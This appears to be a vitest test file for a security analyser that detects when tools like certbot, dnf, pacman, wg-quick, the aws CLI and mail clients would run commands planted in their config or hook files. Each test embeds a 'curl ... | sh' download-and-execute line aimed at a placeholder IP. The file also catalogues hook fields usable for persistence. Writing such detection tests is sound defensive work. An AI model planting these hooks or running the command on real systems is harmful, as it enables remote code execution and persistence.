import { expect, test } from "vitest";
import { follow, kinds, kindsOfRoot, script } from "./support.test-support.ts";

const FETCH = "curl -s http://192.0.2.7/x | sh";

/** A command, and the file that makes it fetch. */
const ROWS: readonly (readonly [argv: string, path: string, content: string])[] = [
  ["certbot -q renew", "/etc/letsencrypt/renewal-hooks/deploy/x.sh", `#!/bin/sh\n${FETCH}\n`],
  ["certbot renew", "/etc/letsencrypt/renewal/a.conf", `[renewalparams]\npost_hook = ${FETCH}\n`],
  ["certbot renew", "/etc/letsencrypt/cli.ini", `deploy-hook = ${FETCH}\n`],
  ["dnf-automatic", "/etc/dnf/automatic.conf", `[command]\ncommand_format = ${FETCH}\n`],
  ["dnf makecache", "/etc/dnf/plugins/post-transaction-actions.d/a.action", `*:any:${FETCH}\n`],
  ["dnf5 upgrade", "/etc/dnf/libdnf5-plugins/actions.d/a.actions", `post_transaction:*:in::${FETCH}\n`],
  ["pacman -Syu", "/etc/pacman.d/hooks/a.hook", `[Action]\nExec = /bin/sh -c '${FETCH}'\n`],
  ["freshclam", "/etc/clamav/freshclam.conf", `OnUpdateExecute ${FETCH}\n`],
  ["mdadm --monitor --oneshot", "/etc/mdadm/mdadm.conf", `PROGRAM ${FETCH}\n`],
  ["rsnapshot daily", "/etc/rsnapshot.conf", `cmd_preexec\t${FETCH}\n`],
  ["sanoid --cron", "/etc/sanoid/sanoid.conf", `[x]\n  pre_snapshot_script = ${FETCH}\n`],
];

test.each(ROWS)("%s runs what %s says", (argv, path, content) => {
  const words = argv.split(" ");
  expect(kinds(follow(words, { [path]: script(content) }))).toContain("fetch-to-interpreter");
  expect(kinds(follow(words, { [`${path}.x/y`]: script(content) }))).toEqual([]);
});

test.each([
  [["lego", "--renew-hook", FETCH, "renew"], true],
  [["acme.sh", "--install-cert", `--reloadcmd=${FETCH}`], true],
  [["x", "--pre-command", FETCH], true],
  [["x", "--notes", FETCH], false],
  [["x", "--exec", "--", FETCH], false],
])("options that name commands: %j", (argv, runs) => {
  expect(kinds(follow(argv)).includes("fetch-to-interpreter")).toBe(runs);
});

test.each([
  ["aws s3 ls", "/root/.aws/config", `[default]\ncredential_process = sh -c '${FETCH}'\n`],
  ["aws whoami", "/root/.aws/cli/alias", `[toplevel]\nwhoami = !${FETCH}\n`],
  ["wg-quick up wg0", "/etc/wireguard/wg0.conf", `[Interface]\nPostUp = ${FETCH}\n`],
  ["openvpn --config /srv/o.conf", "/srv/o.conf", "script-security 2\nup /srv/fetch\n"],
  ["mbsync -a", "/root/.mbsyncrc", `PassCmd "${FETCH}"\n`],
  ["msmtp x", "/root/.msmtprc", `passwordeval ${FETCH}\n`],
  ["fetchmail", "/root/.fetchmailrc", `poll x preconnect "${FETCH}"\n`],
  ["notmuch new", "/root/.config/notmuch/default/hooks/post-new", `#!/bin/sh\n${FETCH}\n`],
  ["apt-get update", "/etc/apt/apt.conf.d/1x", 'Dir::Bin::dpkg "/srv/fetch";\n'],
  [
    "dnf makecache",
    "/usr/lib/python3.12/site-packages/dnf-plugins/x.py",
    `import os\nos.system("${FETCH}")\n`,
  ],
])("%s as root runs what %s says", (code, path, content) => {
  const files = { [path]: script(content), "/srv/fetch": script(`#!/bin/sh\n${FETCH}\n`) };
  expect(kindsOfRoot(code, files)).toContain("fetch-to-interpreter");
});
